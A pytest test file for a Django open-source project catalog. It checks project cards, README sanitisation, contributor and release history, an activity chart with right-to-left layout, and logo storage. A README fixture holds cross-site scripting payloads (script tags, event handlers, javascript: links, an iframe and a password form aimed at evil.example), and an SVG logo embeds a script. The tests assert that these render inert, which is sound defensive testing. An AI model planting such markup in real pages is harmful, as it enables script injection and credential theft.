"""A catalog people enjoy using (#21): the cards' logo, license, health and last activity; the
project page's README (sanitised), releases, contributors and activity chart, from what the
latest scan kept."""

from __future__ import annotations

import base64
import re
from pathlib import Path
from typing import Any

import pytest
from django.test import override_settings
from django.utils import translation

from osunited.catalog.activity_chart import activity_chart
from osunited.catalog.models import Project, Scan, ScanHealth, ScanShowcase
from osunited.catalog.readme import readme_html
from osunited.catalog.scanning import scan_request
from osunited.catalog.showcase import monogram, report_without_kept_bodies, showcase_keep
from tests.catalog.repos import commit, days_ago
from tests.conftest import Cast, client_for
from tests.factories import ProjectFactory, scans_succeeded, stored_report

pytestmark = pytest.mark.django_db

PNG = b"\x89PNG\r\n\x1a\n" + bytes(40)
HOSTILE_README = """# Supply Tracker

<script>document.title = "owned"</script>

<img src="x" onerror="alert(1)">

[Run it](javascript:alert(1)) and [read the guide](docs/guide.md) or [the site](https://tracker.example.org).

<a href="JaVaScRiPt:alert(2)" onclick="alert(3)" style="position:fixed">styled</a>

![Build status](https://ci.example.org/badge.svg) ![Screenshot](docs/screen.png)

<iframe src="https://evil.example"></iframe>
<form action="https://evil.example"><input name="pw"></form>
"""
HISTORY = {
    "last_commit": "2026-11-20T10:00:00+00:00",
    "complete": True,
    "commits": 7,
    "commits_by_month": [
        {"month": "2026-09", "commits": 0},
        {"month": "2026-10", "commits": 4},
        {"month": "2026-11", "commits": 3},
    ],
    "contributors": 3,
    "top_contributors": [
        {"name": "Ada <b>Lovelace</b>", "commits": 5},
        {"name": "Grace", "commits": 2},
    ],
    "releases": 2,
    "latest_releases": [
        {"name": "v1.1.0", "date": "2026-11-01"},
        {"name": "v1.0.0", "date": "2026-06-01"},
    ],
}


def kept_report(*, readme: str = "# Tracker\n", logo: bytes | None = None) -> dict[str, Any]:
    shown: dict[str, Any] = {
        "readme": {"path": "README.md", "format": "markdown", "text": readme, "truncated": False},
        "logo": None,
    }
    if logo is not None:
        encoded = base64.b64encode(logo).decode()
        shown["logo"] = {"path": "logo.png", "media_type": "image/png", "base64": encoded}
    return stored_report(
        {"check_id": "docs.showcase", "outcome": "pass", "data": shown},
        {"check_id": "health.history", "outcome": "pass", "data": HISTORY},
    )


def scanned(project: Project, report: dict[str, Any]) -> Scan:
    """The project with a succeeded scan that kept `report`'s showcase, as its latest."""
    (scan,) = scans_succeeded(project)
    showcase_keep(scan=scan, report=report)
    project.latest_scan, project.scan_health = scan, ScanHealth.GOOD
    project.save(update_fields=["latest_scan", "scan_health"])
    return scan


@pytest.fixture
def tracker(cast: Cast) -> Project:
    return ProjectFactory(
        name="Supply Tracker", slug="supply-tracker", status="published", entity=cast.unicef,
        licenses="MIT OR Apache-2.0",
    )  # fmt: skip


# -- cards ------------------------------------------------------------------------------------


def card_of(page: str, name: str) -> str:
    cards = page.split('<li class="result project-card">')[1:]
    (card,) = [card for card in cards if f">{name}</a></h3>" in card]
    return card


def test_a_card_shows_logo_license_health_and_last_activity(cast: Cast, tracker: Project) -> None:
    scanned(tracker, kept_report(logo=PNG))
    page = client_for(None).get("/catalog/").content.decode()
    card = card_of(page, "Supply Tracker")
    assert '<img class="project-logo" src="/catalog/supply-tracker/logo?v=' in card
    assert '<span dir="ltr">MIT OR Apache-2.0</span>' in card
    assert "Good" in card
    assert '<time datetime="2026-11-20T10:00:00+00:00">' in card
    assert '<p class="card-purpose">What Supply Tracker is for.</p>' in card


def test_an_unscanned_project_says_so_and_never_shows_zero(cast: Cast) -> None:
    ProjectFactory(name="Fresh Idea", status="published", entity=cast.unicef, licenses="")
    card = card_of(client_for(None).get("/catalog/").content.decode(), "Fresh Idea")
    assert "Not scanned yet" in card
    assert "No license declared" in card
    assert "unknown" in card  # last activity
    assert '<span class="project-logo monogram monogram-' in card
    assert ">FI</span>" in card
    assert not re.search(r"<dd[^>]*>\s*0\s*</dd>", card)


def test_a_scan_without_history_leaves_the_last_activity_unknown(
    cast: Cast, tracker: Project
) -> None:
    report = stored_report(
        {"check_id": "docs.showcase", "outcome": "pass", "data": {"readme": None, "logo": None}},
        {"check_id": "health.history", "outcome": "not_available"},
    )
    scanned(tracker, report)
    card = card_of(client_for(None).get("/catalog/").content.decode(), "Supply Tracker")
    assert "Good" in card
    assert "unknown" in card


def test_monograms_take_the_first_letters_of_two_words_in_any_script() -> None:
    assert monogram("Supply Tracker for clinics") == "ST"
    assert monogram("متتبع الإمدادات") == "ما"
    assert monogram("疫苗追踪") == "疫"
    assert monogram("  ") == "?"


# -- README -----------------------------------------------------------------------------------


def test_a_hostile_readme_renders_inert(cast: Cast, tracker: Project) -> None:
    scanned(tracker, kept_report(readme=HOSTILE_README))
    page = client_for(None).get("/catalog/supply-tracker/").content.decode()
    readme = page.split('<div class="readme" dir="auto">', 1)[1].split("</div>", 1)[0]
    assert "<h4>Supply Tracker</h4>" in readme  # under the page's h1 and the README's h2
    for inert in ("<script", "onerror", "onclick", '="javascript:', "style=", "<img", "<iframe"):
        assert inert not in readme.lower(), inert
    assert "<form" not in readme
    assert "<input" not in readme
    assert "[Run it](javascript:alert(1))" in readme  # text, not a link
    assert 'href="https://tracker.example.org" rel="nofollow noopener noreferrer"' in readme
    assert 'href="docs/guide.md"' not in readme  # a relative link leads nowhere here
    assert '<span class="readme-image">Build status</span>' in readme


def test_a_readme_in_plain_text_is_shown_as_written() -> None:
    html = readme_html("Tracker\n=======\n<b>bold</b>\n", "text")
    assert html == '<pre class="readme-text">Tracker\n=======\n&lt;b&gt;bold&lt;/b&gt;\n</pre>'


def test_the_page_says_when_there_is_no_scan_or_no_readme(cast: Cast, tracker: Project) -> None:
    page = client_for(None).get("/catalog/supply-tracker/").content.decode()
    assert "Not scanned yet: the README appears after the first scan." in page
    assert page.count("Not measured: the latest scan read no git history.") == 3


# -- history ----------------------------------------------------------------------------------


def test_the_page_shows_releases_contributors_and_the_chart_with_its_table(
    cast: Cast, tracker: Project
) -> None:
    scanned(tracker, kept_report())
    page = client_for(None).get("/catalog/supply-tracker/").content.decode()
    assert '<bdi dir="ltr">v1.1.0</bdi> · <time datetime="2026-11-01">' in page
    assert "2 release tags; the latest:" in page
    assert "3 people committed in the history the scan read." in page
    assert "<bdi>Ada &lt;b&gt;Lovelace&lt;/b&gt;</bdi> (5 commits)" in page
    assert '<svg viewBox="0 0 480 120" role="img" aria-labelledby="activity-title"' in page
    assert "Commits per month from September 2026 to November 2026: 7 in all" in page
    table = page.split('<details class="activity-table">', 1)[1].split("</details>", 1)[0]
    rows = re.findall(r'<time datetime="([\d-]+)">[^<]+</time></th><td>(\d+)</td>', table)
    assert rows == [("2026-09", "0"), ("2026-10", "4"), ("2026-11", "3")]


def test_the_chart_runs_from_the_start_of_the_line_in_either_direction() -> None:
    months = HISTORY["commits_by_month"]
    ltr = activity_chart(months, rtl=False)
    rtl = activity_chart(months, rtl=True)
    assert ltr is not None
    assert rtl is not None
    assert [bar.x for bar in ltr.bars] == [1.0, 161.0, 321.0]  # oldest on the left
    assert [bar.x for bar in rtl.bars] == [321.0, 161.0, 1.0]  # oldest on the right
    assert [bar.height for bar in ltr.bars] == [0, 120.0, 90.0]
    assert activity_chart([{"month": "garbage"}], rtl=False) is None


def test_an_arabic_page_draws_the_oldest_month_on_the_right(cast: Cast, tracker: Project) -> None:
    scanned(tracker, kept_report())
    client = client_for(None)
    client.cookies["django_language"] = "ar"
    with translation.override("ar"):
        page = client.get("/catalog/supply-tracker/", HTTP_ACCEPT_LANGUAGE="ar").content.decode()
    assert 'dir="rtl"' in page
    bars = re.findall(r'<rect x="([\d.]+)"', page)
    assert bars == ["321", "161", "1"]


# -- what a scan keeps ------------------------------------------------------------------------


def test_keeping_stores_the_bodies_once_and_only_for_the_latest_scan_of_a_source(
    cast: Cast, tracker: Project
) -> None:
    first = scanned(tracker, kept_report(logo=PNG))
    second = Scan.objects.create(
        project=tracker, repository=first.repository, trigger="nightly", status="succeeded"
    )
    report = kept_report(readme="# Newer\n", logo=PNG)
    showcase_keep(scan=second, report=report)
    kept = ScanShowcase.objects.get()
    assert kept.scan_id == second.pk
    assert kept.readme == "# Newer\n"
    assert bytes(kept.logo) == PNG
    assert kept.logo_media_type == "image/png"
    assert len(kept.logo_sha256) == 64
    assert kept.history["contributors"] == 3
    stored = report_without_kept_bodies(report)
    data = next(r["data"] for r in stored["results"] if r["check_id"] == "docs.showcase")
    assert "text" not in data["readme"]
    assert "base64" not in data["logo"]
    assert data["readme"]["path"] == "README.md"


def test_a_logo_of_a_forbidden_type_is_not_kept(cast: Cast, tracker: Project) -> None:
    report = kept_report(logo=PNG)
    shown = next(r for r in report["results"] if r["check_id"] == "docs.showcase")
    shown["data"]["logo"]["media_type"] = "text/html"
    scan = scanned(tracker, report)
    assert ScanShowcase.objects.get(scan=scan).logo_media_type == ""


def test_a_real_scan_keeps_the_readme_logo_and_history_for_the_page(
    cast: Cast, tmp_path: Path, django_capture_on_commit_callbacks: Any
) -> None:
    repo = tmp_path / "tracker"
    commit(
        repo,
        {
            "README.md": "# Tracker\n\n<script>alert(1)</script>\n\nTracks supplies.\n",
            "publiccode.yml": "logo: img/logo.svg\n",
            "img/logo.svg": '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        },
        when=days_ago(3),
    )
    project = ProjectFactory(
        name="Tracker", status="published", entity=cast.unicef, repositories=[f"file://{repo}"]
    )
    roots = override_settings(OSU_SCAN_LOCAL_ROOTS=[str(tmp_path)])
    with roots, django_capture_on_commit_callbacks(execute=True):
        (scan,) = scan_request(project=project, trigger="on_demand")
    scan.refresh_from_db()
    assert scan.status == "succeeded", scan.error
    kept = ScanShowcase.objects.get(scan=scan)
    assert kept.readme.startswith("# Tracker")
    assert kept.last_commit is not None
    assert kept.history["top_contributors"] == [{"name": "Ada", "commits": 1}]
    assert "Tracks supplies" not in str(scan.report)  # kept once, in the showcase
    page = client_for(None).get("/catalog/tracker/").content.decode()
    assert "Tracks supplies." in page
    assert "<script>alert(1)</script>" not in page
    logo = client_for(None).get(f"/catalog/tracker/logo?v={kept.logo_sha256[:16]}")
    assert logo.status_code == 200
    assert logo["Content-Type"] == "image/svg+xml"
    assert "sandbox" in logo["Content-Security-Policy"]  # its script never runs, opened alone
